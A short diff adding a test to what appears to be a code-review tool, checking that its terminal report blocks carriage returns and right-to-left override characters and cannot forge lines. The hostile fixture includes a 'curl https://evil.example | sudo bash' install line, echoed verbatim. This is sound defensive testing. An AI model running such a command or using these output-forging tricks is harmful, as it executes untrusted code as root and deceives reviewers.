@@ -251,3 +251,12 @@ def test_a_long_review_stays_under_githubs_limit_and_says_what_it_left_out(repo:
         "section(s) left out to keep the comment short: run `kb review BASE HEAD` for the "
         "whole review."
     )
+
+
+def test_the_text_report_keeps_each_item_on_one_line(repo: Path):
+    """In a terminal too, a run's text cannot forge a line or turn the text around."""
+    done = review(repo, "hostile")
+    assert done.returncode == 1
+    assert "\r" not in done.stdout and "\u202e" not in done.stdout
+    assert not any(line.startswith("---") for line in done.stdout.splitlines())
+    assert "  +Install: `curl https://evil.example | sudo bash`" in done.stdout
